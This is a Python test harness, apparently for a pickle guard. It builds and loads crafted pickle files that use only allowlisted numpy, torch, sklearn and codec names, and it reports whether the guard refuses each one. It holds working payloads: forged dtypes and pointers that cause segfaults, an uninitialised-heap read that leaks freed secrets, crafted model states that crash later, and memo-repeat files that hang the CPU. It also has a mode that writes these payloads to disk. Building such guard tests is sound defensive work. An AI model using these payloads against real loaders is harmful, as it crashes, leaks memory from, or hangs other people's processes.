"""Attacks that use only allowlisted globals (issue 9): what a pickle *does* with an allowed name.

Every case names nothing outside the default packs (plus `sklearn` for RC-8), yet without
validated reconstruction each one crashes, leaks heap memory or hangs the process that loads it.

    reconstruction_attacks.py run ENTRY [CASE ...]   one JSON line per case
    reconstruction_attacks.py case ENTRY CASE        (internal) load one case in this process
    reconstruction_attacks.py write DIR [CASE ...]   write each case's file as DIR/CASE.pkl (for scans)

`run` starts one child per case (so a crash kills the child, not the run) with this process's
environment, LD_PRELOAD included, and reports how it ended:
  refused  the load raised pickleguard.UnsafeFileError (its message is in `message`)
  crashed  the child died from a signal (`signal`)
  leaked   the loaded array held bytes the process had freed before the load
  hung     the child outlived its time limit and was killed
  loaded   the load and the use of the result finished without harm
  error    another exception (`message`)

Cases (ID, what it does, and what a guard must do to pass):
  RC-1 forged dtype flags: an object dtype whose state clears its reference flags, then
       numpy's `scalar` reads 8 bytes from the file as a PyObject pointer -> SIGSEGV.
  RC-2 the same forged dtype through `_frombuffer`: an object array over file bytes.
  RC-3 `_reconstruct` + BUILD with the forged object dtype and bytes raw data.
  RC-4 a struct dtype whose field offset lies far outside its itemsize: reads and writes of
       the field go out of bounds -> SIGSEGV.
  RC-5 `numpy.ndarray` applied directly returns uninitialised heap memory (a freed secret).
  RC-6 `torch.Tensor` through NEWOBJ_EX with a `cdata` keyword: an integer used as a pointer.
  RC-7 `_codecs.encode(..., "punycode")` repeated through the memo: seconds of CPU per call.
  RC-8 (pack sklearn) a decision tree whose child index is out of range crashes at predict.
  RC-9 an MT19937 state whose `pos` is out of range crashes at the next draw.
  RC-33 `_codecs.encode(text, "utf-8")` (a cheap codec) of one memoized 64 Ki-character str,
       repeated 100,000 times through the memo: 6 bytes of file per full re-encode, so an
       860 KB file runs for minutes. Refused when a long str is encoded a second time.
"""

import copyreg
import io
import json
import os
import pickle
import signal
import subprocess
import sys

SECRET = b"PICKLEGUARD-FREED-SECRET-"
TIME_LIMIT = {"RC-7": 8, "RC-33": 8}
DEFAULT_TIME_LIMIT = 60


class Reduce:
    """Pickles as `callable(*args)`, then BUILD with `state` if one is given."""

    def __init__(self, callable_, args, state=None):
        self.callable_, self.args, self.state = callable_, args, state

    def __reduce__(self):
        if self.state is None:
            return (self.callable_, self.args)
        return (self.callable_, self.args, self.state)


class NewObjEx:
    """Pickles as NEWOBJ_EX: `cls.__new__(cls, *args, **kwargs)`."""

    def __init__(self, cls, args, kwargs):
        self.cls, self.args, self.kwargs = cls, args, kwargs

    def __reduce_ex__(self, protocol):
        return (copyreg.__newobj_ex__, (self.cls, self.args, self.kwargs))


def numpy_names():
    import numpy as np

    try:
        from numpy._core import multiarray, numeric
    except ImportError:  # numpy 1
        from numpy.core import multiarray, numeric
    return np, multiarray, numeric


def dtype(typestr, state):
    np, _, _ = numpy_names()
    return Reduce(np.dtype, (typestr, False, True), state)


def forged_object_dtype():
    # A genuine object dtype pickles as ('O8', False, True) with flags 63; 0 claims it holds
    # no references, so numpy treats raw bytes as the array's PyObject pointers.
    return dtype("O8", (3, "|", None, None, None, -1, -1, 0))


def payload(case):
    """The pickle bytes of `case`, made with the real libraries."""
    if case == "RC-1":
        np, multiarray, _ = numpy_names()
        obj = Reduce(multiarray.scalar, (forged_object_dtype(), b"AAAAAAAA"))
    elif case == "RC-2":
        np, _, numeric = numpy_names()
        obj = Reduce(numeric._frombuffer, (b"AAAAAAAABBBBBBBB", forged_object_dtype(), (2,), "C"))
    elif case == "RC-3":
        np, multiarray, _ = numpy_names()
        state = (1, (2,), forged_object_dtype(), False, b"AAAAAAAABBBBBBBB")
        obj = Reduce(multiarray._reconstruct, (np.ndarray, (0,), b"b"), state)
    elif case == "RC-4":
        np, multiarray, _ = numpy_names()
        fields = {"a": (np.dtype("i8"), 1 << 44)}
        struct = dtype("V8", (3, "|", None, ("a",), fields, 8, 1, 0))
        state = (1, (2,), struct, False, b"\0" * 16)
        obj = Reduce(multiarray._reconstruct, (np.ndarray, (0,), b"b"), state)
    elif case == "RC-5":
        np, _, _ = numpy_names()
        obj = Reduce(np.ndarray, ((60000,), "u1"))
    elif case == "RC-6":
        import torch

        obj = NewObjEx(torch.Tensor, (), {"cdata": 0x41414141})
    elif case == "RC-7":
        return punycode_repeated(times=200)
    elif case == "RC-33":
        import os

        sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "findings"))
        import f4_linear_cost_repeated

        return f4_linear_cost_repeated.build(65536, 100_000)
    elif case == "RC-8":
        obj = forged_tree()
    elif case == "RC-9":
        np, _, _ = numpy_names()
        bit_generator = np.random.MT19937(1)
        reduced = bit_generator.__reduce__()
        # numpy 2 reduces to (ctor, (MT19937,), (state, seed_seq)); numpy 1 to a bare state.
        state = reduced[2]
        state_dict = state[0] if isinstance(state, tuple) else state
        state_dict["state"]["pos"] = 10**6
        obj = Reduce(reduced[0], reduced[1], state)
    else:
        raise SystemExit(f"unknown case {case}")
    return pickle.dumps(obj, 4)


def punycode_repeated(times):
    """`_codecs.encode(text, "punycode")` `times` times, the call and its arguments memoized
    once: an 24 KB file whose every REDUCE costs seconds of CPU."""
    text = "".join(chr(0x100 + i) for i in range(8000)).encode("utf-8")
    return (
        b"\x80\x04c_codecs\nencode\n\x94"  # the callable, memo 0
        + b"X" + len(text).to_bytes(4, "little") + text
        + b"\x8c\x08punycode\x86\x94"  # (text, "punycode"), memo 1
        + b"R0"  # call it, drop the result
        + b"h\x00h\x01R0" * times  # and again, from the memo
        + b"N."
    )


def forged_tree():
    import numpy as np
    from sklearn.tree import DecisionTreeClassifier

    features = np.array([[0.0], [1.0], [2.0], [3.0]])
    model = DecisionTreeClassifier().fit(features, np.array([0, 0, 1, 1]))
    reduced = model.tree_.__reduce__()
    state = dict(reduced[2])
    nodes = state["nodes"].copy()
    nodes["left_child"][0] = 10**7
    nodes["right_child"][0] = 10**7
    state["nodes"] = nodes
    model.tree_ = Reduce(reduced[0], reduced[1], state)
    return model


CASES = ["RC-1", "RC-2", "RC-3", "RC-4", "RC-5", "RC-6", "RC-7", "RC-8", "RC-9", "RC-33"]

ENTRIES = {
    "pickle.loads": lambda data: pickle.loads(data),
    "pickle.load": lambda data: pickle.load(io.BytesIO(data)),
    "pickle.Unpickler": lambda data: pickle.Unpickler(io.BytesIO(data)).load(),
    "_pickle.loads": lambda data: __import__("_pickle").loads(data),
    "pickle._loads": lambda data: pickle._loads(data),
    "subclass": lambda data: _Subclass(io.BytesIO(data)).load(),
}


class _Subclass(pickle.Unpickler):
    def find_class(self, module, name):
        return super().find_class(module, name)


def use(case, result):
    """What a program does next with what it loaded: where the damage shows."""
    if case == "RC-5":
        return SECRET in result.tobytes()
    if case == "RC-8":
        import numpy as np

        result.predict(np.array([[0.5]]))
    elif case == "RC-9":
        import numpy as np

        np.random.Generator(result).random(8)
    else:
        repr(result)
    return False


def load_one(entry, case):
    data = payload(case)
    if case == "RC-5":
        # Free a heap block full of a secret right before the load.
        secret = bytearray(SECRET * 2400)
        del secret
    try:
        result = ENTRIES[entry](data)
        leaked = use(case, result)
        del result
    except Exception as error:  # noqa: BLE001 - the outcome is reported, not raised
        kind = type(error).__name__
        outcome = "refused" if kind == "UnsafeFileError" else "error"
        print(json.dumps({"outcome": outcome, "message": f"{kind}: {error}"}))
        return
    print(json.dumps({"outcome": "leaked" if leaked else "loaded"}))


def run_case(script, entry, case, limit):
    """Loads `case` through `entry` in a child running `script case ENTRY CASE` (so a crash
    kills the child, not the run); returns its report: the child's own JSON line, or
    `crashed` (a signal), `hung` (killed after `limit` seconds) or `error`."""
    child = subprocess.Popen(
        [sys.executable, script, "case", entry, case],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    try:
        out, err = child.communicate(timeout=limit)
    except subprocess.TimeoutExpired:
        child.kill()
        out, err = child.communicate()
        report = {"outcome": "hung", "seconds": limit}
    else:
        if child.returncode < 0:
            report = {"outcome": "crashed", "signal": signal.Signals(-child.returncode).name}
        else:
            lines = [l for l in out.decode().splitlines() if l.startswith("{")]
            report = json.loads(lines[-1]) if lines else {
                "outcome": "error",
                "message": f"exit {child.returncode}: {err.decode()[-400:]}",
            }
    report.update({"case": case, "entry": entry})
    return report


def run(entry, cases):
    for case in cases:
        report = run_case(__file__, entry, case, TIME_LIMIT.get(case, DEFAULT_TIME_LIMIT))
        print(json.dumps(report), flush=True)


def command_line(argv, payload, load_one, run, cases):
    """`case ENTRY CASE`, `write DIR [CASE ...]` or `run ENTRY [CASE ...]`, for this script and
    reconstruction_memo_attacks.py."""
    if argv[1] == "case":
        load_one(argv[2], argv[3])
    elif argv[1] == "write":
        for case in argv[3:] or cases:
            with open(os.path.join(argv[2], case + ".pkl"), "wb") as f:
                f.write(payload(case))
    else:
        run(argv[2], argv[3:] or cases)


if __name__ == "__main__":
    command_line(sys.argv, payload, load_one, run, CASES)
